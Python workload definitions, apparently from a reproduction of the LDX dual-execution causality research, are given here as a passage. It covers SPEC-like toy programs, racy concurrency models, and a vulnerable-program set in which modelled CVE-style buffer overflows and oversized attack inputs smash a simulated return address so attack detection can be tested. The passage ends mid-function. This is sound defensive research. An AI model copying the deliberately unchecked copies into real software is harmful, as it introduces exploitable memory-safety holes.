GOBMK = Workload(
    name="gobmk",
    category=SPEC,
    description="go board liberty scoring",
    source=GOBMK_SOURCE,
    build_world=_gobmk_world,
    config=lambda: _config(["/spec/gobmk/board.sgf"]),
    leak_config=lambda: _config(["/spec/gobmk/board.sgf"]),
    noleak_config=lambda: _config(["/spec/gobmk/book.dat"]),
    modeled_after="445.gobmk",
)


# ---------------------------------------------------------------------------
# 456.hmmer — dynamic-programming sequence alignment score (O / - row).
# ---------------------------------------------------------------------------

HMMER_SOURCE = """
fn score_pair(a, b) {
  if (a == b) { return 3; }
  return -1;
}

fn main() {
  var q = open("/spec/hmmer/query.fa", "r");
  var seq_a = str_strip(read_line(q));
  close(q);
  var db = open("/spec/hmmer/db.fa", "r");
  var seq_b = str_strip(read_line(db));
  close(db);
  var rows = len(seq_a) + 1;
  var cols = len(seq_b) + 1;
  var dp = list_new(rows * cols, 0);
  for (var i = 1; i < rows; i = i + 1) {
    for (var j = 1; j < cols; j = j + 1) {
      var diag = dp[(i - 1) * cols + (j - 1)]
               + score_pair(seq_a[i - 1], seq_b[j - 1]);
      var up = dp[(i - 1) * cols + j] - 2;
      var left = dp[i * cols + (j - 1)] - 2;
      var best = max(diag, max(up, left));
      dp[i * cols + j] = max(best, 0);
    }
  }
  var best_score = 0;
  var dp_mass = 0;
  for (var k = 0; k < rows * cols; k = k + 1) {
    best_score = max(best_score, dp[k]);
    dp_mass = dp_mass + dp[k];
  }
  var out = open("/spec/hmmer/score.out", "w");
  write(out, "hmm-score " + best_score + "\\n");
  write(out, "dp-mass " + dp_mass + "\\n");
  close(out);
}
"""


def _hmmer_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file("/spec/hmmer/query.fa", "ACGTACGGTCA\n")
    world.fs.add_file("/spec/hmmer/db.fa", "ACGTACGGTCA\n")
    return world


HMMER = Workload(
    name="hmmer",
    category=SPEC,
    description="local-alignment DP scoring",
    source=HMMER_SOURCE,
    build_world=_hmmer_world,
    config=lambda: _config(["/spec/hmmer/query.fa"]),
    leak_config=lambda: _config(["/spec/hmmer/query.fa"]),
    noleak_config=None,  # every mutation reaches the score (O / -)
    modeled_after="456.hmmer",
)


# ---------------------------------------------------------------------------
# 458.sjeng — shallow minimax over a game tree read from the input.
# ---------------------------------------------------------------------------

SJENG_SOURCE = """
fn minimax(values, node, depth, maximizing) {
  // The tree is a flat heap: children of i are 2i+1 and 2i+2.
  if (depth == 0 or 2 * node + 1 >= len(values)) {
    return values[node];
  }
  var left = minimax(values, 2 * node + 1, depth - 1, 1 - maximizing);
  var right = minimax(values, 2 * node + 2, depth - 1, 1 - maximizing);
  if (maximizing == 1) { return max(left, right); }
  return min(left, right);
}

fn main() {
  var f = open("/spec/sjeng/position.epd", "r");
  var book = open("/spec/sjeng/opening.bk", "r");
  var bk = read(book, 16);
  close(book);
  // Opening book (the no-leak mutation target): required, not
  // consulted by the midgame search below.
  if (len(bk) == 0) { return; }
  var values = [];
  var line = read_line(f);
  while (len(line) > 0) {
    push(values, parse_int(str_strip(line)));
    line = read_line(f);
  }
  close(f);
  var best = minimax(values, 0, 4, 1);
  var out = open("/spec/sjeng/move.txt", "w");
  write(out, "eval " + best + "\\n");
  if (best > 0) { write(out, "advantage white\\n"); }
  else { write(out, "advantage black\\n"); }
  close(out);
}
"""


def _sjeng_world(seed: int = 1) -> World:
    world = World(seed=seed)
    values = [((i * 13 + 5) % 21) - 10 for i in range(31)]
    world.fs.add_file(
        "/spec/sjeng/position.epd", "".join(f"{v}\n" for v in values)
    )
    world.fs.add_file("/spec/sjeng/opening.bk", "sicilian-najdorf\n")
    return world


SJENG = Workload(
    name="sjeng",
    category=SPEC,
    description="minimax game-tree search (recursion)",
    source=SJENG_SOURCE,
    build_world=_sjeng_world,
    config=lambda: _config(["/spec/sjeng/position.epd"]),
    leak_config=lambda: _config(["/spec/sjeng/position.epd"]),
    noleak_config=lambda: _config(["/spec/sjeng/opening.bk"]),
    modeled_after="458.sjeng",
)


# ---------------------------------------------------------------------------
# 462.libquantum — modular exponentiation tables (O / - row).
# ---------------------------------------------------------------------------

LIBQUANTUM_SOURCE = """
fn mod_pow(base, exponent, modulus) {
  var result = 1;
  var b = base % modulus;
  var e = exponent;
  while (e > 0) {
    if (e % 2 == 1) { result = (result * b) % modulus; }
    e = e / 2;
    b = (b * b) % modulus;
  }
  return result;
}

fn main() {
  var f = open("/spec/libquantum/n.txt", "r");
  var n = parse_int(str_strip(read(f, 16)));
  close(f);
  var out = open("/spec/libquantum/period.txt", "w");
  // Find the multiplicative order of 2 mod n (Shor's period finding).
  var period = 1;
  while (period < n and mod_pow(2, period, n) != 1) {
    period = period + 1;
  }
  write(out, "order(2, " + n + ") = " + period + "\\n");
  close(out);
}
"""


def _libquantum_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file("/spec/libquantum/n.txt", "33\n")
    return world


LIBQUANTUM = Workload(
    name="libquantum",
    category=SPEC,
    description="modular-order computation (Shor period finding)",
    source=LIBQUANTUM_SOURCE,
    build_world=_libquantum_world,
    config=lambda: _config(["/spec/libquantum/n.txt"]),
    leak_config=lambda: _config(["/spec/libquantum/n.txt"]),
    noleak_config=None,  # O / -
    modeled_after="462.libquantum",
)


# ---------------------------------------------------------------------------
# 464.h264ref — block quantization encoder.
# ---------------------------------------------------------------------------

H264REF_SOURCE = """
fn quantize_block(frame, offset, qp) {
  var acc = 0;
  for (var i = 0; i < 8; i = i + 1) {
    var v = ord(frame[offset + i]);
    acc = acc + v / qp;
  }
  return acc;
}

fn main() {
  var cfg = open("/spec/h264/encoder.cfg", "r");
  var qp = parse_int(str_strip(read_line(cfg)));
  close(cfg);
  var trace = open("/spec/h264/trace.cfg", "r");
  var trace_tag = read(trace, 32);
  close(trace);
  // Trace config (the no-leak mutation target): required, not part of
  // the encoded stream.
  if (len(trace_tag) == 0) { return; }
  var f = open("/spec/h264/frame.yuv", "r");
  var frame = read(f, 512);
  close(f);
  var out = open("/spec/h264/stream.264", "w");
  var blocks = len(frame) / 8;
  var total_bits = 0;
  for (var b = 0; b < blocks; b = b + 1) {
    var size = quantize_block(frame, b * 8, qp);
    total_bits = total_bits + size;
    write(out, "blk" + b + ":" + size + ";");
  }
  write(out, "\\ntotal " + total_bits + "\\n");
  close(out);
}
"""


def _h264_frame_mutator(value):
    """Shift the first frame byte by +7: big enough to survive the
    qp-quantization (a +1 shift can quantize to the same level)."""
    if isinstance(value, str) and value:
        shifted = chr(65 + ((ord(value[0]) - 65 + 7) % 26))
        return shifted + value[1:]
    return value


def _h264_config() -> LdxConfig:
    return LdxConfig(
        sources=SourceSpec(
            file_paths={"/spec/h264/frame.yuv"},
            mutators={"file:/spec/h264/frame.yuv": _h264_frame_mutator},
        ),
        sinks=SinkSpec.file_out(),
    )


def _h264_strong_mutator(value):
    """Replace every frame byte with 'Z' (Table 3's all-bytes
    perturbation; per-char shifts can cancel under /qp quantization)."""
    if isinstance(value, str):
        return "Z" * len(value)
    return value


def _h264_table3_config() -> LdxConfig:
    return LdxConfig(
        sources=SourceSpec(
            file_paths={"/spec/h264/frame.yuv"},
            mutators={"file:/spec/h264/frame.yuv": _h264_strong_mutator},
        ),
        sinks=SinkSpec.file_out(),
    )


def _h264_world(seed: int = 1) -> World:
    world = World(seed=seed)
    frame = "".join(chr(65 + ((i * 11 + 3) % 26)) for i in range(96))
    world.fs.add_file("/spec/h264/frame.yuv", frame)
    world.fs.add_file("/spec/h264/encoder.cfg", "4\n")
    world.fs.add_file("/spec/h264/trace.cfg", "foreman_qcif baseline\n")
    return world


H264REF = Workload(
    name="h264ref",
    category=SPEC,
    description="block quantization encoder",
    source=H264REF_SOURCE,
    build_world=_h264_world,
    config=_h264_config,
    leak_config=_h264_config,
    noleak_config=lambda: _config(["/spec/h264/trace.cfg"]),
    table3_config=_h264_table3_config,
    modeled_after="464.h264ref",
)


# ---------------------------------------------------------------------------
# 471.omnetpp — discrete event queue simulation (O / - row).
# ---------------------------------------------------------------------------

OMNETPP_SOURCE = """
fn main() {
  var f = open("/spec/omnetpp/omnetpp.ini", "r");
  var arrivals = [];
  var line = read_line(f);
  while (len(line) > 0) {
    push(arrivals, parse_int(str_strip(line)));
    line = read_line(f);
  }
  close(f);
  // Single-server queue: each job takes (value % 5) + 1 ticks.
  var clock = 0;
  var busy_until = 0;
  var total_wait = 0;
  var served = 0;
  for (var i = 0; i < len(arrivals); i = i + 1) {
    clock = clock + arrivals[i];
    if (busy_until > clock) {
      total_wait = total_wait + (busy_until - clock);
      clock = busy_until;
    }
    busy_until = clock + (arrivals[i] % 5) + 1;
    served = served + 1;
  }
  var out = open("/spec/omnetpp/scalars.sca", "w");
  write(out, "served " + served + "\\n");
  write(out, "total-wait " + total_wait + "\\n");
  write(out, "makespan " + busy_until + "\\n");
  close(out);
}
"""


def _omnetpp_world(seed: int = 1) -> World:
    world = World(seed=seed)
    values = [((i * 5 + 1) % 7) + 1 for i in range(12)]
    world.fs.add_file(
        "/spec/omnetpp/omnetpp.ini", "".join(f"{v}\n" for v in values)
    )
    return world


OMNETPP = Workload(
    name="omnetpp",
    category=SPEC,
    description="discrete-event queue simulation",
    source=OMNETPP_SOURCE,
    build_world=_omnetpp_world,
    config=lambda: _config(["/spec/omnetpp/omnetpp.ini"]),
    leak_config=lambda: _config(["/spec/omnetpp/omnetpp.ini"]),
    noleak_config=None,  # O / -
    modeled_after="471.omnetpp",
)


# ---------------------------------------------------------------------------
# 473.astar — BFS shortest path on a grid (O / - row).
# ---------------------------------------------------------------------------

ASTAR_SOURCE = """
fn main() {
  var f = open("/spec/astar/map.txt", "r");
  var grid = [];
  var line = read_line(f);
  while (len(line) > 0) {
    push(grid, str_strip(line));
    line = read_line(f);
  }
  close(f);
  var rows = len(grid);
  var cols = len(grid[0]);
  var dist = list_new(rows * cols, -1);
  var queue = [0];
  dist[0] = 0;
  var head = 0;
  while (head < len(queue)) {
    var cell = queue[head];
    head = head + 1;
    var c = cell % cols;
    var moves = [cell - cols, cell + cols, cell - 1, cell + 1];
    for (var m = 0; m < 4; m = m + 1) {
      var next = moves[m];
      if (m == 2 and c == 0) { continue; }
      if (m == 3 and c == cols - 1) { continue; }
      if (next < 0 or next >= rows * cols) { continue; }
      if (dist[next] >= 0) { continue; }
      if (grid[next / cols][next % cols] == "#") { continue; }
      dist[next] = dist[cell] + 1;
      push(queue, next);
    }
  }
  var out = open("/spec/astar/path.txt", "w");
  write(out, "goal-dist " + dist[rows * cols - 1] + "\\n");
  write(out, "explored " + len(queue) + "\\n");
  close(out);
}
"""


def _astar_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file(
        "/spec/astar/map.txt",
        "....#.\n.##.#.\n....#.\n.#....\n.#.##.\n......\n",
    )
    return world


def _astar_config() -> LdxConfig:
    # The map uses '.'/'#' (no alphanumerics), so the generic off-by-one
    # mutator is a no-op; block one open cell instead.
    def mutate(value):
        if isinstance(value, str) and "." in value[1:]:
            index = value.index(".", 1)
            return value[:index] + "#" + value[index + 1 :]
        return value

    return LdxConfig(
        sources=SourceSpec(
            file_paths={"/spec/astar/map.txt"},
            mutators={"file:/spec/astar/map.txt": mutate},
        ),
        sinks=SinkSpec.file_out(),
    )


ASTAR = Workload(
    name="astar",
    category=SPEC,
    description="grid shortest-path search",
    source=ASTAR_SOURCE,
    build_world=_astar_world,
    config=_astar_config,
    leak_config=_astar_config,
    noleak_config=None,  # O / -
    modeled_after="473.astar",
)


# ---------------------------------------------------------------------------
# 483.xalancbmk — XML-ish markup transformer (indirect dispatch table).
# ---------------------------------------------------------------------------

XALANCBMK_SOURCE = """
fn render_bold(text) { return "<b>" + text + "</b>"; }
fn render_item(text) { return "<li>" + text + "</li>"; }
fn render_head(text) { return "<h1>" + str_upper(text) + "</h1>"; }
fn render_text(text) { return text; }

fn main() {
  var f = open("/spec/xalanc/input.xml", "r");
  var style = open("/spec/xalanc/style.xsl", "r");
  var css = read(style, 64);
  close(style);
  // Stylesheet (the no-leak mutation target): required, but the HTML
  // rendering below never embeds it.
  if (len(css) == 0) { return; }
  var out = open("/spec/xalanc/output.html", "w");
  var tags = ["bold", "item", "head"];
  var renderers = [render_bold, render_item, render_head];
  var line = read_line(f);
  while (len(line) > 0) {
    var stripped = str_strip(line);
    var colon = str_find(stripped, ":");
    var rendered = "";
    if (colon > 0) {
      var tag = substr(stripped, 0, colon);
      var body = substr(stripped, colon + 1, len(stripped));
      var which = index_of(tags, tag);
      if (which >= 0) {
        var render = renderers[which];
        rendered = render(body);
      } else {
        rendered = render_text(body);
      }
    } else {
      rendered = render_text(stripped);
    }
    write(out, rendered + "\\n");
    line = read_line(f);
  }
  close(f);
  close(out);
}
"""


def _xalanc_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file(
        "/spec/xalanc/input.xml",
        "head:benchmark report\nitem:first finding\nbold:critical\n"
        "item:second finding\nplain trailing line\n",
    )
    world.fs.add_file("/spec/xalanc/style.xsl", "margin:0;font:serif\n")
    return world


XALANCBMK = Workload(
    name="xalancbmk",
    category=SPEC,
    description="markup transformer with an indirect render table",
    source=XALANCBMK_SOURCE,
    build_world=_xalanc_world,
    config=lambda: _config(["/spec/xalanc/input.xml"]),
    leak_config=lambda: _config(["/spec/xalanc/input.xml"]),
    noleak_config=lambda: _config(["/spec/xalanc/style.xsl"]),
    modeled_after="483.xalancbmk",
)


SPEC_WORKLOADS = [
    PERLBENCH,
    BZIP2,
    GCC,
    MCF,
    GOBMK,
    HMMER,
    SJENG,
    LIBQUANTUM,
    H264REF,
    OMNETPP,
    ASTAR,
    XALANCBMK,
]
