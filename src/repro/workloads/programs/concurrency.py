"""Concurrent workloads — the paper's concurrency-control set
(Apache, pbzip2, pigz, axel, x264), evaluated in Table 4.

Design mirrors the paper's findings:

* apache / pbzip2 / pigz protect shared state with mutexes and use a
  static work partition: LDX's lock-order sharing keeps the two
  executions' schedules aligned, so tainted-sink counts are *stable*
  across runs while spin-wait syscall counts (and hence syscall-diff
  counts) wobble with the schedule seed;
* axel mixes in genuinely racy progress accounting (the paper blames
  its variation on per-run Internet nondeterminism) and x264 derives a
  throughput figure from racy state — their tainted-sink counts vary
  slightly run to run.
"""

from __future__ import annotations

from repro.core.config import LdxConfig, SinkSpec, SourceSpec
from repro.vos.world import World
from repro.workloads.base import CONCURRENCY, Workload


# ---------------------------------------------------------------------------
# Apache — worker threads answer a statically partitioned request list.
# ---------------------------------------------------------------------------

APACHE_SOURCE = """
var server_tag = "";
var stats_lock = 0;
var requests_served = 0;
var start_flag = 0;

var doc_index = 0;

fn worker(spec) {
  // spec = [worker id, socket fd, first request idx, count]
  var wid = spec[0];
  var sock = spec[1];
  // Worker ids are 1-based; 0 marks a malformed spec.
  if (wid == 0) { return 0; }
  while (start_flag == 0) { sleep(1); }
  for (var k = 0; k < spec[3]; k = k + 1) {
    var req_id = spec[2] + k;
    // Dynamic work grabbing: which worker preloads which document
    // depends on the schedule — the syscall sequences race while the
    // response content stays fixed per request id.
    // Unlocked racy read of the shared doc counter decides which
    // document to preload (content never reaches the sinks).
    var doc = doc_index;
    sleep(0);
    doc_index = doc + 1;
    var fd = open("/www/doc" + (doc % 3) + ".html", "r");
    if (fd >= 0) {
      read(fd, 32);
      close(fd);
    }
    send(sock, "HTTP/1.1 200 req" + req_id + " via " + server_tag);
    mutex_lock(stats_lock);
    requests_served = requests_served + 1;
    mutex_unlock(stats_lock);
  }
  return 0;
}

fn main() {
  var conf = open("/etc/apache2/httpd.conf", "r");
  server_tag = str_strip(read_line(conf));
  close(conf);
  stats_lock = mutex_create();
  var sock = socket();
  connect(sock, "clients.example", 80);
  var t1 = thread_spawn(worker, [1, sock, 0, 3]);
  var t2 = thread_spawn(worker, [2, sock, 3, 3]);
  var t3 = thread_spawn(worker, [3, sock, 6, 3]);
  start_flag = 1;
  thread_join(t1);
  thread_join(t2);
  thread_join(t3);
  var log = open("/var/log/apache/access.log", "w");
  write(log, "served " + requests_served + "\\n");
  close(log);
  close(sock);
}
"""


def _apache_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file("/etc/apache2/httpd.conf", "Apache/2.2.24 (corp)\n")
    world.fs.add_file("/var/log/apache/access.log", "")
    for index in range(3):
        world.fs.add_file(f"/www/doc{index}.html", f"<html>doc {index}</html>")
    world.network.register("clients.example", 80, lambda req: "")
    return world


APACHE = Workload(
    name="apache",
    category=CONCURRENCY,
    description="threaded HTTP workers with mutex-protected stats",
    source=APACHE_SOURCE,
    build_world=_apache_world,
    config=lambda: LdxConfig(
        sources=SourceSpec(file_paths={"/etc/apache2/httpd.conf"}),
        sinks=SinkSpec.network_out(),
    ),
    threads=4,
    modeled_after="Apache 2.2.24 (worker MPM)",
)


# ---------------------------------------------------------------------------
# pbzip2 — parallel block compressor, in-order merge under a mutex.
# ---------------------------------------------------------------------------

PBZIP2_SOURCE = """
var grab_lock = 0;
var next_block = 0;
var total_blocks = 0;
var results = 0;

fn rle(block) {
  var out = "";
  var i = 0;
  while (i < len(block)) {
    var ch = block[i];
    var run = 1;
    while (i + run < len(block) and block[i + run] == ch and run < 9) {
      run = run + 1;
    }
    out = out + run + ch;
    i = i + run;
  }
  return out;
}

fn worker(wid) {
  // Dynamic work stealing with an optimistic prefetch: the worker
  // peeks at next_block WITHOUT the lock, opens the file for that
  // block, then locks to claim it.  Losing the race wastes the
  // prefetch syscalls — a schedule-dependent syscall count (the
  // low-level nondeterminism Table 4 measures).
  var done = 0;
  while (true) {
    var peek = next_block;
    if (peek >= total_blocks) { break; }
    var f = open("/data/input.txt", "r");
    seek(f, peek * 24);
    mutex_lock(grab_lock);
    var mine = next_block;
    if (mine < total_blocks) { next_block = next_block + 1; }
    mutex_unlock(grab_lock);
    if (mine >= total_blocks) { close(f); break; }
    if (mine != peek) { seek(f, mine * 24); }
    var block = read(f, 24);
    close(f);
    results[mine] = rle(block);
    done = done + 1;
  }
  return done;
}

fn main() {
  var probe = open("/data/input.txt", "r");
  var size = stat("/data/input.txt");
  close(probe);
  total_blocks = (size[0] + 23) / 24;
  results = list_new(total_blocks, "");
  grab_lock = mutex_create();
  var tids = [];
  for (var w = 0; w < 3; w = w + 1) {
    push(tids, thread_spawn(worker, w));
  }
  var grabbed = 0;
  for (var j = 0; j < len(tids); j = j + 1) {
    grabbed = grabbed + thread_join(tids[j]);
  }
  var out = open("/data/output.bz2", "w");
  for (var b = 0; b < total_blocks; b = b + 1) {
    write(out, results[b] + "|");
  }
  write(out, "#" + grabbed);
  close(out);
}
"""


def _pbzip2_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file(
        "/data/input.txt", "aaabbbcccdddabcabcabc" * 3 + "zzzzzyyyy"
    )
    return world


PBZIP2 = Workload(
    name="pbzip2",
    category=CONCURRENCY,
    description="parallel block compressor with ordered merge",
    source=PBZIP2_SOURCE,
    build_world=_pbzip2_world,
    config=lambda: LdxConfig(
        sources=SourceSpec(file_paths={"/data/input.txt"}),
        sinks=SinkSpec.file_out(),
    ),
    threads=4,
    modeled_after="pbzip2 1.1.6",
)


# ---------------------------------------------------------------------------
# pigz — parallel compressor with per-chunk checksum workers.
# ---------------------------------------------------------------------------

PIGZ_SOURCE = """
var grab_lock = 0;
var next_chunk = 0;
var total_chunks = 0;
var sums = 0;

fn crc(chunk) {
  var sum = 0;
  for (var i = 0; i < len(chunk); i = i + 1) {
    sum = i32_add(i32_mul(sum, 131), ord(chunk[i]));
  }
  return sum % 100000;
}

fn worker(out_slots) {
  // Dynamic chunk grabbing with an optimistic unlocked peek: a lost
  // race costs a wasted open/seek (schedule-dependent syscalls), while
  // each chunk's checksum still lands deterministically in its slot.
  while (true) {
    var peek = next_chunk;
    if (peek >= total_chunks) { break; }
    var f = open("/data/archive.in", "r");
    seek(f, peek * 16);
    mutex_lock(grab_lock);
    var mine = next_chunk;
    if (mine < total_chunks) { next_chunk = next_chunk + 1; }
    mutex_unlock(grab_lock);
    if (mine >= total_chunks) { close(f); break; }
    if (mine != peek) { seek(f, mine * 16); }
    var chunk = read(f, 16);
    close(f);
    var value = crc(chunk);
    out_slots[mine] = value;
    mutex_lock(grab_lock);
    sums = i32_add(sums, value);
    mutex_unlock(grab_lock);
  }
  return 0;
}

fn main() {
  var size = stat("/data/archive.in");
  total_chunks = (size[0] + 15) / 16;
  var slots = list_new(total_chunks, 0);
  grab_lock = mutex_create();
  var tids = [];
  for (var w = 0; w < 3; w = w + 1) {
    push(tids, thread_spawn(worker, slots));
  }
  for (var j = 0; j < len(tids); j = j + 1) {
    thread_join(tids[j]);
  }
  var out = open("/data/archive.gz", "w");
  for (var c = 0; c < total_chunks; c = c + 1) {
    write(out, "c" + c + ":" + slots[c] + ";");
  }
  write(out, "total:" + sums);
  close(out);
}
"""


def _pigz_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file("/data/archive.in", "the quick brown fox jumps over " * 2)
    return world


PIGZ = Workload(
    name="pigz",
    category=CONCURRENCY,
    description="parallel checksum compressor",
    source=PIGZ_SOURCE,
    build_world=_pigz_world,
    config=lambda: LdxConfig(
        sources=SourceSpec(file_paths={"/data/archive.in"}),
        sinks=SinkSpec.file_out(),
    ),
    threads=4,
    modeled_after="pigz 2.3",
)


# ---------------------------------------------------------------------------
# axel — multi-connection downloader with racy progress reporting.
# ---------------------------------------------------------------------------

AXEL_SOURCE = """
var progress = 0;

fn worker(spec) {
  // spec = [connection fd, chunk count, chunk tag]
  var sock = spec[0];
  for (var k = 0; k < spec[1]; k = k + 1) {
    send(sock, "chunk " + spec[2] + k);
    var data = recv(sock, 32);
    // RACY: progress is read-modify-written without a lock, with a
    // yield inside the window — the value each progress line reports
    // (and lost updates) depend on the interleaving (the paper: axel's
    // per-run nondeterminism changes its tainted sinks).
    var seen = progress;
    sleep(0);
    progress = seen + len(data);
    print("[" + spec[2] + "] " + progress + " bytes\\n");
  }
  return 0;
}

fn main() {
  var url = str_strip(read_line(0));
  var s1 = socket();
  connect(s1, "mirror-a.example", 80);
  var s2 = socket();
  connect(s2, "mirror-b.example", 80);
  send(s1, "HEAD " + url);
  recv(s1, 16);
  var t1 = thread_spawn(worker, [s1, 4, "a"]);
  var t2 = thread_spawn(worker, [s2, 4, "b"]);
  thread_join(t1);
  thread_join(t2);
  print("done " + progress + "\\n");
  close(s1);
  close(s2);
}
"""


def _axel_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.stdin = "releases/image.iso\n"

    def mirror(tag):
        def script(request: str) -> str:
            if request.startswith("HEAD"):
                return "200 ok length 96  "[:16]
            if request.startswith("chunk"):
                return f"<{tag}-data-{request[-1]}>"
            return ""

        return script

    world.network.register("mirror-a.example", 80, mirror("a"))
    world.network.register("mirror-b.example", 80, mirror("b"))
    return world


AXEL = Workload(
    name="axel",
    category=CONCURRENCY,
    description="multi-connection downloader with racy progress lines",
    source=AXEL_SOURCE,
    build_world=_axel_world,
    config=lambda: LdxConfig(
        sources=SourceSpec(stdin=True),
        sinks=SinkSpec(syscall_names=("send", "print")),
    ),
    threads=3,
    modeled_after="axel 2.4",
)


# ---------------------------------------------------------------------------
# x264 — parallel encoder printing a throughput statistic derived from
# racy shared state.
# ---------------------------------------------------------------------------

X264_SOURCE = """
var frames_done = 0;
var bits_total = 0;

fn encode(spec) {
  // spec = [frame index, frame data]
  var bits = 0;
  var data = spec[1];
  for (var i = 0; i < len(data); i = i + 1) {
    bits = bits + ord(data[i]) / 4;
  }
  // RACY unprotected statistics accumulation (real encoders keep
  // throughput stats outside the lock): lost updates possible in both
  // counters, with a yield widening the window.
  var bits_snapshot = bits_total;
  var done_snapshot = frames_done;
  sleep(0);
  bits_total = bits_snapshot + bits;
  frames_done = done_snapshot + 1;
  print("frame " + spec[0] + " bits " + bits + "\\n");
  print("fps-progress " + done_snapshot + "\\n");
  return bits;
}

fn main() {
  var f = open("/video/input.y4m", "r");
  var frames = [];
  var frame = read(f, 20);
  while (len(frame) > 0) {
    push(frames, frame);
    frame = read(f, 20);
  }
  close(f);
  var tids = [];
  for (var i = 0; i < len(frames); i = i + 1) {
    push(tids, thread_spawn(encode, [i, frames[i]]));
  }
  var out = open("/video/output.264", "w");
  for (var j = 0; j < len(tids); j = j + 1) {
    write(out, "f" + j + ":" + thread_join(tids[j]) + ";");
  }
  write(out, "bits " + bits_total);
  close(out);
}
"""


def _x264_frame_mutator(value):
    """Shift the first frame byte by +7 so the change survives the /4
    quantization in encode()."""
    if isinstance(value, str) and value:
        return chr(65 + ((ord(value[0]) - 65 + 7) % 26)) + value[1:]
    return value


def _x264_world(seed: int = 1) -> World:
    world = World(seed=seed)
    frames = "".join(chr(65 + ((i * 3) % 26)) for i in range(80))
    world.fs.add_file("/video/input.y4m", frames)
    return world


X264 = Workload(
    name="x264",
    category=CONCURRENCY,
    description="parallel encoder with racy progress statistic",
    source=X264_SOURCE,
    build_world=_x264_world,
    config=lambda: LdxConfig(
        sources=SourceSpec(
            file_paths={"/video/input.y4m"},
            mutators={"file:/video/input.y4m": _x264_frame_mutator},
        ),
        sinks=SinkSpec.file_out(),
    ),
    threads=5,
    modeled_after="x264 r2230",
)


CONCURRENCY_WORKLOADS = [APACHE, PBZIP2, PIGZ, AXEL, X264]
