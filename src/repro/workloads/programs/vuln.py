"""Vulnerable-program workloads — the paper's attack detection set
(gif2png, mp3info, prozilla, yopsweb, ngircd, gzip).

Attack detection in LDX = strong causality between untrusted inputs
and critical execution state.  The models expose the same two sink
families the paper uses:

* **function return addresses** — a frame is modelled as a flat cell
  array whose last slot holds the saved return address; an unchecked
  copy (the CVE's strcpy/memcpy) can overwrite it.  The value is
  observed at function return via ``sink_observe("retaddr:...")``.
* **memory-management parameters** — attacker-controlled length fields
  flow (with 32-bit wrap-around) into ``malloc`` sizes.

Worlds ship *attack* inputs (overlong/oversized fields), so the
mutated slave perturbs the smashed state and LDX sees the causality.
"""

from __future__ import annotations

from repro.core.config import LdxConfig, SinkSpec, SourceSpec
from repro.vos.world import World
from repro.workloads.base import VULN, Workload

# Shared MiniC helper: an unchecked string copy into a modelled frame.
VULN_HELPERS = """
fn frame_new(buf_size) {
  // buffer cells [0, buf_size) + the saved return address slot.
  var stack = list_new(buf_size + 1, 0);
  stack[buf_size] = 4195942;
  return stack;
}

fn unchecked_copy(stack, data) {
  // strcpy(): no bounds check; spills into the return-address slot.
  var i = 0;
  while (i < len(data) and i < len(stack)) {
    stack[i] = ord(data[i]);
    i = i + 1;
  }
  return i;
}
"""


def _after_marker_mutator(marker: str):
    """Off-by-one the first alphanumeric character after *marker* — a
    data field, never magic values or structure (Section 8's mutation
    rule).  Digits wrap within 0-9 so numeric fields stay parseable."""

    def mutate(value):
        if not isinstance(value, str):
            return value
        start = value.find(marker)
        if start < 0:
            return value
        start += len(marker)
        for index in range(start, len(value)):
            ch = value[index]
            if ch.isdigit():
                bumped = str((int(ch) + 1) % 10)
                return value[:index] + bumped + value[index + 1 :]
            if ch.isalnum():
                shifted = chr(ord(ch) + 1)
                if not shifted.isalnum():
                    shifted = "a"
                return value[:index] + shifted + value[index + 1 :]
        return value

    return mutate


def _insert_mutator(marker: str):
    """Insert one byte right after *marker*.

    For overflow payloads this shifts every subsequent byte by one
    position, so the byte landing in the saved-return-address slot
    changes — the perturbation that makes the smashed state visibly
    causal on the untrusted input."""

    def mutate(value):
        if not isinstance(value, str):
            return value
        start = value.find(marker)
        if start < 0:
            return value
        start += len(marker)
        return value[:start] + "x" + value[start:]

    return mutate


def _pick(marker: str, insert: bool):
    return _insert_mutator(marker) if insert else _after_marker_mutator(marker)


def _file_attack_config(path: str, marker: str, insert: bool = False) -> LdxConfig:
    return LdxConfig(
        sources=SourceSpec(
            file_paths={path}, mutators={f"file:{path}": _pick(marker, insert)}
        ),
        sinks=SinkSpec.attack_detection(),
    )


def _net_attack_config(address: str, marker: str, insert: bool = False) -> LdxConfig:
    return LdxConfig(
        sources=SourceSpec(
            network={address},
            mutators={f"conn:{address}": _pick(marker, insert)},
        ),
        sinks=SinkSpec.attack_detection(),
    )


def _stdin_attack_config(marker: str, insert: bool = False) -> LdxConfig:
    return LdxConfig(
        sources=SourceSpec(stdin=True, mutators={"stdin": _pick(marker, insert)}),
        sinks=SinkSpec.attack_detection(),
    )


# ---------------------------------------------------------------------------
# gif2png — image comment field overflows a fixed buffer (CVE-2009-5018).
# ---------------------------------------------------------------------------

GIF2PNG_SOURCE = VULN_HELPERS + """
fn convert(image) {
  var stack = frame_new(16);
  var start = str_find(image, "comment=");
  if (start >= 0) {
    var comment = substr(image, start + 8, len(image));
    unchecked_copy(stack, comment);
  }
  var out = open("/work/out.png", "w");
  write(out, "PNG:" + substr(image, 6, 16));
  close(out);
  sink_observe("retaddr:convert", stack[16]);
  return 0;
}

fn main() {
  var f = open("/work/input.gif", "r");
  var image = read(f, 256);
  close(f);
  if (starts_with(image, "GIF89a")) {
    convert(image);
  } else {
    print("not a gif");
  }
}
"""


def _gif2png_world(seed: int = 1) -> World:
    world = World(seed=seed)
    world.fs.add_file(
        "/work/input.gif",
        "GIF89a64x64;comment=" + "ABCDEFGHIJKLMNOPQRSTUVWXYZABCD",  # 30 > 16: smashes the frame
    )
    return world


GIF2PNG = Workload(
    name="gif2png",
    category=VULN,
    description="image comment overflows a 16-byte frame buffer",
    source=GIF2PNG_SOURCE,
    build_world=_gif2png_world,
    config=lambda: _file_attack_config("/work/input.gif", "comment=", insert=True),
    modeled_after="gif2png 2.5.2",
)


# ---------------------------------------------------------------------------
# mp3info — ID3 size field wraps in 32-bit arithmetic into malloc.
# ---------------------------------------------------------------------------

MP3INFO_SOURCE = VULN_HELPERS + """
fn parse_tag(data) {
  var start = str_find(data, "size=");
